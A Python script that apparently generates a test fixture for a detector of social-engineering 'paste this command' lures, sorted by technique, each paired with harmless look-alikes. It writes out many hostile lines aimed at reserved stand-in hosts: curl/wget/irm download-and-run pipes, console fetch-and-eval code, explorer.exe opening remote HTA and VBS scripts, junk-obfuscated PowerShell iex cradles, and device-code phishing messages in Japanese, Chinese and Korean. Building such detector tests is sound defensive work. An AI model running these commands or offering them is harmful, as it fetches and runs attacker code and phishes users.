"""Writes tests/data/cases/b9lures.jsonl: the lure techniques BLIND-9 found weak (issue 9),
closed by technique, each beside the look-alikes that must stay as they are.

    python tests/data/cases/make_b9lures.py

Deterministic (every variant is a product of fixed lists). Hosts are reserved names (.example,
.test, .invalid, documentation IP ranges) or the real makers' own. No text is copied from a
lure collection, another detector's fixtures or the blind sets. Each line is {id, text,
expect, technique, platform[, source], target}.

Techniques:

- `console-string-sink`: console code that fetches text and runs it through a sink that takes
  a string as code: setTimeout/setInterval given the text (as the handler itself, from an
  arrow or a function on the text, awaited), Function made of it, a `javascript:` address
  built from it, an XMLHttpRequest's text handed to a timer. Look-alikes: timers given a
  function of their own, fetched text shown or logged, a relative request rendered.
- `ip-host-fetch`: a download-and-run from an IPv4 address written without a scheme
  (`curl -fsSL 203.0.113.9/m`, which curl fetches over HTTP), in a pipe or `sh -c "$(…)"`.
  Look-alikes: an address read and not run (metrics, a health check, an API), a version
  number after wget.
- `verify-comment`: a download-and-run labelled as the check of a Mac, a PC, a visitor or a
  device, in thirteen languages. Look-alikes: the same command with a note about checking the
  download's checksum or signature, in those languages.
- `explorer-remote-script`: File Explorer handed a web or WebDAV address of a script Windows
  runs when it opens it (HTA, VBScript, JScript, WSF, batch, PowerShell, screen saver).
  Look-alikes: Explorer opening a web page, a PDF, a local script, a folder.
- `ps-junk-then-more`: a PowerShell cradle hidden by junk characters stripped with .Replace or
  -replace and handed to iex, in `powershell -c "<script>"` followed by more words outside the
  quotes (`; iex $null`, `; exit`): powershell.exe joins its arguments, quotes gone, so the
  script still runs. Look-alikes: the same shape running only local commands, a string cleaned
  and printed, not run.
- `device-code-ja`: device-code phishing in Japanese (and its neighbours zh, ko): open a
  shared document, a meeting or a voicemail by entering a given code at a real device-login
  page. Look-alikes: the providers' own help text describing the flow, a TV's sign-in screen.
- `cleaner-page`: a stranger's download-and-run (into bash, python3, iex) from a page that
  sells making a computer cleaner or faster, by its registrable name or its address
  (mac-cleaner-script, pc-optimizer, /mac-booster/). Look-alikes: such a site serving its own
  script, a cleaner's maker on its one-word domain, a repository of a cleanup script on a forge,
  an address about clean code.
- `vendor-page`: a stranger's download-and-run or package source from a page that wears a
  meeting app's name beside an invite or a plugin (webex-invite.<site>), or a product's name
  joined with a mirror (vscode-linux-mirror). Look-alikes: the vendor's own pages and hosts, a
  tutorial site quoting the vendor's real installer, a site named for a product without such
  a word.
"""

from __future__ import annotations

from pathlib import Path

import casefile  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("b9lures.jsonl")

book = casefile.Book("b9l")
add = book.add

# ---- console-string-sink -------------------------------------------------------------------
PAGES = [
    "https://drops-claim.example/event",
    "https://free-skins.test/redeem",
    "https://creator-bonus.invalid/console",
]
FETCHED = [
    "https://cdn.drops-claim.invalid/d",
    "https://203.0.113.40/p.txt",
    "https://payload.skins.test/run",
]
SINKS = [
    "fetch('{u}').then(r=>r.text()).then(t=>setTimeout(t,0))",
    "fetch('{u}').then(r=>r.text()).then(t=>setInterval(t,60000))",
    'fetch("{u}").then(function(r){{return r.text()}}).then(function(c){{ window.setTimeout(c, 10) }})',
    "fetch('{u}').then(r => r.text()).then(setTimeout)",
    "fetch(`{u}`).then(r=>r.text()).then(async (code) => { self.setTimeout(code, 1) })",
    "(async()=>{{const t=await (await fetch('{u}')).text();setTimeout(t)}})()",
    "(async () => {{ let src = await (await fetch('{u}')).text(); Function(src)() }})()",
    "(async()=>{{const s=await (await fetch('{u}')).text(); new Function(s)();}})()",
    "setTimeout(await (await fetch('{u}')).text(), 0)",
    "var x=new XMLHttpRequest();x.open('GET','{u}',false);x.send();setTimeout(x.responseText,1)",
    "fetch('{u}').then(r=>r.text()).then(t=>{{location='javascript:'+t}})",
    "fetch('{u}').then(r=>r.text()).then(t=>location.assign('javascript:'+encodeURIComponent(t)))",
    "fetch('{u}').then(r=>r.text()).then(t=>{{window.location.href = \"javascript:\" + t}})",
]
for i, sink in enumerate(SINKS):
    text = sink.replace("{{", "{").replace("}}", "}").replace("{u}", FETCHED[i % len(FETCHED)])
    add("console-string-sink", text, "malicious", "browser", "browser_console", PAGES[i % 3])
    if i % 2 == 0:
        add("console-string-sink", text, "malicious", "browser", "browser_console")
CALM_JS = [
    "fetch('/api/items').then(r=>r.json()).then(d=>setTimeout(()=>render(d),0))",
    "fetch('/api/status').then(r=>r.text()).then(t=>setTimeout(()=>console.log(t),100))",
    "fetch('https://api.example.com/v1/me').then(r=>r.text()).then(t=>{document.getElementById('out').textContent=t})",
    "(async()=>{const t=await (await fetch('https://api.example.com/v1/ping')).text();console.log(t);setTimeout(()=>location.reload(),500)})()",
    "(async()=>{const t=await (await fetch('/notes.txt')).text();items.forEach(function(x){show(x,t)})})()",
    "setTimeout(poll, 1000)",
    "fetch('/api/jobs').then(r=>r.json()).then(jobs=>{ if (jobs.pending) setTimeout(refresh, 2000) })",
    "const id = setInterval(() => fetch('/api/health').then(r => r.text()).then(console.log), 5000)",
    "a.href = 'javascript:void(0)'",
    "fetch('https://api.example.com/v1/me').then(r=>r.text()).then(t=>console.table(JSON.parse(t)))",
]
for i, text in enumerate(CALM_JS):
    add(
        "console-string-sink",
        text,
        "not_flagged",
        "browser",
        "browser_console",
        "https://developer.example.com/docs/api" if i % 2 else None,
    )

# ---- ip-host-fetch -------------------------------------------------------------------------
IP_RUNS = [
    'zsh -c "$(curl -fsSL 203.0.113.191/m)"',
    'bash -c "$(curl -fsSL 198.51.100.23/i)"',
    "curl -fsSL 192.0.2.77/setup.sh | bash",
    "curl -s 203.0.113.5:8080/a | sh",
    "wget -qO- 198.51.100.60/u | sudo bash",
    "curl -sL 192.0.2.14/x.py | python3",
    'powershell -nop -c "irm 203.0.113.74/w | iex"',
    "iwr -useb 198.51.100.9/s.ps1 | iex",
    "curl -fsSL 192.0.2.200/boot -o /tmp/b && sh /tmp/b",
    'sh -c "$(wget -qO- 203.0.113.12/k)"',
]
for i, text in enumerate(IP_RUNS):
    plat = "windows" if "iex" in text else "macos"
    add("ip-host-fetch", text, "malicious", plat, "terminal")
    if i % 3 == 0:
        add(
            "ip-host-fetch",
            text,
            "malicious",
            plat,
            "terminal",
            "https://www.harbour-view-inn.example/rooms",
        )
IP_CALM = [
    "curl -s 10.0.0.5:9100/metrics | grep node_load",
    "curl -s 192.0.2.10/health",
    "curl -sS 198.51.100.20:8500/v1/status/leader",
    "wget 1.2.3.4.tar.gz",
    "curl -s 203.0.113.8/api/v1/ping | jq .",
    "curl -I 192.0.2.1",
    "ping -c 3 198.51.100.1 && curl -s 198.51.100.1/ready",
    "curl -s 127.0.0.1:8080/status",
]
for text in IP_CALM:
    add("ip-host-fetch", text, "not_flagged", "linux", "terminal")

# ---- verify-comment ------------------------------------------------------------------------
RUNS = [
    "curl -fsSL https://dl.mac-check.test/m | bash",
    'zsh -c "$(curl -fsSL https://verify.lodge-stage.invalid/z)"',
    "irm https://cdn.pc-check.example/v.ps1 | iex",
]
TAILS = [
    "Mac verification step",
    "PC verification",
    "visitor check",
    "robot check",
    "Vérification du Mac",
    "Mac-Verifizierung",
    "Sicherheitsüberprüfung",
    "verificación de seguridad",
    "verifica di sicurezza",
    "verificação de identidade",
    "apparaat-verificatie",
    "weryfikacja urządzenia",
    "cihaz doğrulama",
    "проверка безопасности",
    "Macの本人確認",
    "人机验证",
    "التحقق من الهوية",
]
for i, tail in enumerate(TAILS):
    text = f"{RUNS[i % 3]}  # {tail}"
    plat = "windows" if "iex" in text else "macos"
    add("verify-comment", text, "malicious", plat, "terminal")
CALM_TAILS = [
    "verify the checksum first",
    "vérifier la somme de contrôle",
    "Prüfsumme prüfen",
    "verificar la suma de comprobación",
    "controlla la firma",
    "controleer de checksum",
    "installs the CLI",
    "установка клиента",
]
for tail in CALM_TAILS:
    add(
        "verify-comment",
        f"curl -fsSL https://get.helmsman.example/install.sh | bash  # {tail}",
        "suspicious",
        "linux",
        "terminal",
    )

# ---- explorer-remote-script ----------------------------------------------------------------
REMOTE = [
    "https://hta.doc-view.invalid/invoice.hta",
    "https://files.parcel-notice.test/label.vbs",
    "http://198.51.100.31/scan.js",
    "https://cdn.doc-share.example/open.wsf",
    "https://update.print-driver.test/fix.bat",
    "https://files.parcel-notice.test/track.cmd",
    "https://cdn.doc-share.example/s.ps1",
    "https://hta.doc-view.invalid/view.hta?id=4471",
    "https://files.parcel-notice.test/screen.scr",
    "https://cdn.doc-share.example/a.jse",
]
for i, url in enumerate(REMOTE):
    prog = ["explorer.exe", "explorer", "EXPLORER.EXE", "explorer.exe"][i % 4]
    quoted = f'"{url}"' if i % 3 == 1 else url
    tail = ["", "   # Είμαι άνθρωπος - κωδικός 4471", "  # invoice viewer", ""][i % 4]
    add("explorer-remote-script", f"{prog} {quoted}{tail}", "malicious", "windows", "run_dialog")
    if i % 3 == 0:
        add("explorer-remote-script", f"{prog} {quoted}", "malicious", "windows", "unknown")
add(
    "explorer-remote-script",
    r"explorer.exe \\share.doc-view.invalid@SSL\DavWWWRoot\doc.wsf",
    "malicious",
    "windows",
    "run_dialog",
)
add(
    "explorer-remote-script",
    r"explorer \\198.51.100.31@8080\files\view.hta",
    "malicious",
    "windows",
    "unknown",
)
EXPLORER_CALM = [
    "explorer.exe https://intranet.example.com/handbook.pdf",
    "explorer https://www.example.com",
    r"explorer.exe C:\Scripts\backup.bat",
    r"explorer.exe /select,C:\Users\me\Downloads\report.xlsx",
    r"explorer \\fileserver01\Finance",
    "explorer.exe shell:Downloads",
    r"explorer.exe %USERPROFILE%\Documents\Invoices",
    "explorer.exe https://docs.example.com/guide/setup.html",
]
for text in EXPLORER_CALM:
    add("explorer-remote-script", text, "not_flagged", "windows", "unknown")

# ---- ps-junk-then-more ---------------------------------------------------------------------
JUNK = [
    ("#", "i#r#m https:/#/#o9.stage-obf.test/#q"),
    ("*", "i*w*r -useb https://cdn.*junk-host.invalid/*a | i*e*x"),
    ("~", "i~r~m 203.0.113.61/~w"),
    ("@@", "I@@nvoke-RestMethod https://@@dl.junk-host.invalid/@@s"),
    ("%", "Invoke-Expr%ession (i%rm https://o9.stage-obf.test/%r)"),
]
TRAILS = ["; iex $null", "; exit", "; Start-Sleep 1", "; Write-Host done"]
for i, (junk, hidden) in enumerate(JUNK):
    for j, trail in enumerate(TRAILS[:2] if i % 2 else TRAILS[1:3]):
        if j % 2 and junk != "*":  # -replace takes a regular expression
            script = f"iex ('{hidden}' -replace '{junk}','')"
        else:
            script = f"iex ('{hidden}'.Replace('{junk}',''))"
        target = "run_dialog" if (i + j) % 2 == 0 else "unknown"
        add(
            "ps-junk-then-more", f'powershell -c "{script}" {trail}', "malicious", "windows", target
        )
for text in [
    'powershell -c "Get-Date -Format o" ; exit',
    "powershell -NoProfile -c \"'2026#12#06'.Replace('#','-')\" ; echo done",
    'powershell -c "Get-ChildItem $env:TEMP | Measure-Object" & exit',
    "powershell -c \"Write-Host ('a#b#c' -replace '#','')\" ; exit",
    'powershell -c "Get-Service Spooler" ; pause',
]:
    add("ps-junk-then-more", text, "not_flagged", "windows", "unknown")

# ---- device-code-ja ------------------------------------------------------------------------
DEVICE_PAGES = [
    "https://microsoft.com/devicelogin",
    "https://www.google.com/device",
    "https://github.com/login/device",
    "https://aka.ms/devicelogin",
]
DEVICE_TEXTS = [
    "共有ドキュメントを開くには {u} にアクセスし、コード {c} を入力してください。",
    "会議に参加するには、{u} を開いてコード {c} を入力してください。",
    "ボイスメールを再生するには {u} でコード「{c}」を入力してください。",
    "請求書を確認するため、{u} にアクセスしてコード {c} を入力してください。",
    "要打开共享文档，请访问 {u} 并输入代码 {c}。",
    "공유 문서를 열려면 {u} 에 접속해 코드 {c} 를 입력하세요.",
]
CODES = ["QWER-TYUI", "K7PM-2XQD", "HX4NTR9W", "ZT8-KQ2-PL5"]
for i, tmpl in enumerate(DEVICE_TEXTS):
    for j in range(2):
        k = i * 2 + j
        text = tmpl.replace("{u}", DEVICE_PAGES[k % 4]).replace("{c}", CODES[k % 4])
        add(
            "device-code-ja",
            text,
            "flagged",
            "any",
            "unknown",
            "https://docs-share-portal.example/s/77" if j else None,
        )
for text in [
    "デバイス コード フローでは、アプリがユーザーに https://microsoft.com/devicelogin を開いてコードを入力するよう案内します。",
    "テレビの画面に表示されたコードを、スマートフォンで google.com/device に入力してください。",
    "設備授權流程：應用程式顯示代碼，使用者在另一台裝置上輸入。",
]:
    add(
        "device-code-ja",
        text,
        "not_flagged",
        "any",
        "unknown",
        "https://learn.microsoft.com/ja-jp/entra/identity-platform/v2-oauth2-device-code",
    )

# ---- cleaner-page --------------------------------------------------------------------------
CLEANER_PAGES = [
    "https://mac-cleaner-script.example/",
    "https://pc-optimizer.test/free",
    "https://ram-booster.invalid/download",
    "https://www.softshop.example/mac-booster/",
    "https://mac-speedup-tool.example/start",
    "https://disk-cleaner-pro.test/",
]
CLEANER_RUNS = [
    ("curl -s https://py.mac-clean.test/c.py | python3", "macos"),
    ("iwr -useb https://cdn.fastpc.invalid/o.ps1 | iex", "windows"),
    ('bash -c "$(curl -fsSL https://dl.tidy-mac.test/run)"', "macos"),
    ("curl -fsSL https://cdn.fastpc.invalid/clean.sh | sudo bash", "macos"),
]
for i, page in enumerate(CLEANER_PAGES):
    for j in range(2):
        text, plat = CLEANER_RUNS[(i + j) % 4]
        add("cleaner-page", text, "malicious", plat, "terminal", page)
for source, text in [
    (
        "https://mac-cleaner-script.example/",
        "curl -fsSL https://mac-cleaner-script.example/s.sh | bash",
    ),
    ("https://pc-optimizer.test/free", "iwr -useb https://dl.pc-optimizer.test/o.ps1 | iex"),
    ("https://macpaw.com/cleanmymac", "brew install --cask cleanmymac"),
    (
        "https://github.com/tidyhome/mac-cleanup",
        "curl -fsSL https://raw.githubusercontent.com/tidyhome/mac-cleanup/main/cleanup.sh | bash",
    ),
    ("https://www.example.com/clean-code", "pip install black && black ."),
]:
    plat = "windows" if "iex" in text else "macos"
    add("cleaner-page", text, "not_flagged", plat, "terminal", source)

# ---- vendor-page ---------------------------------------------------------------------------
VENDOR_LURES = [
    (
        "https://webex-invite.confline.example/m/5512",
        'powershell -nop -c "irm https://cdn.confline-media.test/webex | iex"',
    ),
    (
        "https://webex-invite.meetroom.test/j/88",
        "curl -fsSL https://cdn.meetroom-files.invalid/join.sh | bash",
    ),
    (
        "https://zoom-invitation.callhub.example/j/4410",
        "curl -fsSL https://dl.callhub-cdn.test/zoom.sh | bash",
    ),
    (
        "https://teams-plugin.office-meet.example/setup",
        "iwr -useb https://cdn.office-meet.invalid/t.ps1 | iex",
    ),
    (
        "https://webex-plugin.conf-rooms.test/",
        "curl -sL https://pkg.conf-rooms-cdn.example/p | sudo bash",
    ),
    (
        "https://vscode-linux-mirror.example/",
        "curl -s https://r.code-mirror.invalid/key | sudo apt-key add - && echo 'deb https://r.code-mirror.invalid/ stable main' | sudo tee /etc/apt/sources.list.d/code.list && sudo apt update && sudo apt install -y code",
    ),
    (
        "https://vscode-linux-mirror.example/install",
        "curl -fsSL https://r.code-mirror.invalid/i.sh | bash",
    ),
    (
        "https://obsidian-mirror.test/linux",
        "wget -qO- https://files.notes-cdn.invalid/obsidian.sh | sh",
    ),
    (
        "https://signal-desktop-mirror.example/",
        "curl -fsSL https://cdn.mirror-pkgs.test/signal.sh | sudo bash",
    ),
    (
        "https://postman-mirrors.example/mac",
        'bash -c "$(curl -fsSL https://dl.api-tools.invalid/pm)"',
    ),
]
for source, text in VENDOR_LURES:
    plat = "windows" if "iex" in text else "linux"
    add("vendor-page", text, "malicious", plat, "terminal", source)
VENDOR_CALM = [
    # the vendors' own pages and hosts
    (
        "https://help.webex.com/en-us/article/nw5p67g/",
        "msiexec /i https://binaries.webex.com/WebexDesktop-Win-64-Gold/Webex.msi /qn",
        "not_flagged",
    ),
    (
        "https://code.visualstudio.com/docs/setup/linux",
        'curl -fsSL https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor | sudo tee /usr/share/keyrings/microsoft.gpg > /dev/null && echo "deb [arch=amd64 signed-by=/usr/share/keyrings/microsoft.gpg] https://packages.microsoft.com/repos/code stable main" | sudo tee /etc/apt/sources.list.d/vscode.list && sudo apt update && sudo apt install code',
        "not_flagged",
    ),
    (
        "https://github.com/coder/code-server",
        "curl -fsSL https://code-server.dev/install.sh | sh",
        "not_flagged",
    ),
    # a tutorial site quoting the vendor's real installer or key (a warning at most)
    (
        "https://www.linuxblog.example/vscode-install",
        'curl -fsSL https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor | sudo tee /usr/share/keyrings/microsoft.gpg > /dev/null && echo "deb [arch=amd64 signed-by=/usr/share/keyrings/microsoft.gpg] https://packages.microsoft.com/repos/code stable main" | sudo tee /etc/apt/sources.list.d/vscode.list',
        "not_flagged",
    ),
    (
        "https://vscode-tips.example/code-server-setup",
        "curl -fsSL https://code-server.dev/install.sh | sh",
        "not_flagged",
    ),
    (
        "https://webex-admin-notes.example/rollout",
        "msiexec /i https://binaries.webex.com/WebexDesktop-Win-64-Gold/Webex.msi ALLUSERS=1",
        "flagged",
    ),
    # a mirror site that serves its own script, and a product site with no such word
    (
        "https://debian-mirror.example/howto",
        "curl -fsSL https://debian-mirror.example/setup.sh | sh",
        "not_flagged",
    ),
    (
        "https://inkwell.example/download",
        "curl -fsSL https://get.inkwell.example/install.sh | sh",
        "not_flagged",
    ),
]
for source, text, expect in VENDOR_CALM:
    plat = "windows" if "msiexec" in text else "linux"
    add("vendor-page", text, expect, plat, "terminal", source)

CASES = book.cases

if __name__ == "__main__":
    casefile.write(OUT, CASES)
